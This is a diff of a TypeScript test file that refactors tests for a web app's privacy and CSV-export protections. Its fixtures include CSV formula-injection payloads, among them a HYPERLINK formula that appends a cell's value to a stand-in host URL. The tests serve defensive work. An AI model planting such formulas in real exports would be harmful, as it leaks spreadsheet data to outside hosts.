@@ -5,15 +5,15 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { App } from '../../src/app.ts';
 import { CSV_COLUMNS, neutralise } from '../../src/http/export-csv.ts';
-import { createHttpServer, type HttpServer } from '../../src/http/server.ts';
 import { renderText } from '../../src/render/text.ts';
-import { TestClock, testApp } from '../support/app.ts';
+import { serveApp, TestClock, testApp } from '../support/app.ts';
+import { csvRows } from '../support/csv.ts';
 
 const admin = { platform: 'console' as const, id: 'root', name: 'root' };
 const chat = { platform: 'console' as const, id: 'console' };
 
 let app: App;
-let http: HttpServer;
+let close: (() => Promise<void>) | undefined;
 let base = '';
 const run = async (text: string) => {
   const out = renderText((await app.dispatcher.handle({ text, who: admin, chat, asAdmin: true })).reply);
@@ -21,37 +21,6 @@ const run = async (text: string) => {
   return out;
 };
 const get = async (path: string) => (await fetch(base + path)).text();
-
-/**
- * How a spreadsheet program reads CSV: quotes respected, and a CR, an LF or a CRLF outside quotes
- * ends the row (Excel and LibreOffice both break rows on a bare CR).
- */
-function spreadsheetRows(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted && c === '"' && text[i + 1] === '"') {
-      field += '"';
-      i++;
-    } else if (c === '"') quoted = !quoted;
-    else if (quoted) field += c;
-    else if (c === ',') {
-      row.push(field);
-      field = '';
-    } else if (c === '\r' || c === '\n') {
-      if (c === '\r' && text[i + 1] === '\n') i++;
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-    } else field += c;
-  }
-  if (field || row.length) rows.push([...row, field]);
-  return rows;
-}
 
 /** The digits of every phone number used below, as they would show if not redacted. */
 const PHONES = [
@@ -91,13 +60,9 @@ beforeAll(async () => {
   for (const title of ['Budget line\r@SUM(A1:A9)', '  =HYPERLINK("http://x.example/?"&A1)'])
     await app.services.blockers.add(actor, { title, ownerUnit: 'MOF' });
   await run('/blocker add Owned by a person with a number owner:MOF to:<@UPHONE> due:+5d');
-  http = createHttpServer(app);
-  base = `http://127.0.0.1:${await http.listen(0, '127.0.0.1')}`;
+  ({ base, close } = await serveApp(app));
 }, 60_000);
-afterAll(async () => {
-  await http?.close();
-  await app?.close();
-});
+afterAll(() => close?.());
 
 describe('the leaking call: an untriaged hotline call on the public page', () => {
   it('is counted on GET /, never listed: no caller name, no phone, no description', async () => {
@@ -110,7 +75,7 @@ describe('the leaking call: an untriaged hotline call on the public page', () =>
 
   it('is not in the CSV export or the calendar either', async () => {
     const csv = await get('/export/blockers.csv');
-    const ids = spreadsheetRows(csv.replace(/^\uFEFF/, '')).map((r) => r[0]);
+    const ids = csvRows(csv, { anyBreak: true }).map((r) => r[0]);
     expect(ids).not.toContain('B-1');
     expect(await get('/export/blockers.csv?status=new')).not.toContain('portal down');
     expect(await get('/calendar.ics')).not.toContain('portal down');
@@ -149,7 +114,7 @@ describe('the CSV formula: a bare CR followed by @SUM(…)', () => {
   it('stays one quoted cell of one row, and no cell can run as a formula', async () => {
     const text = (await get('/export/blockers.csv')).replace(/^\uFEFF/, '');
     expect(text).toContain('"Budget line\r@SUM(A1:A9)"');
-    const rows = spreadsheetRows(text);
+    const rows = csvRows(text, { anyBreak: true });
     for (const r of rows) {
       expect(r, JSON.stringify(r)).toHaveLength(CSV_COLUMNS.length);
       for (const cell of r) expect(cell, JSON.stringify(r)).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
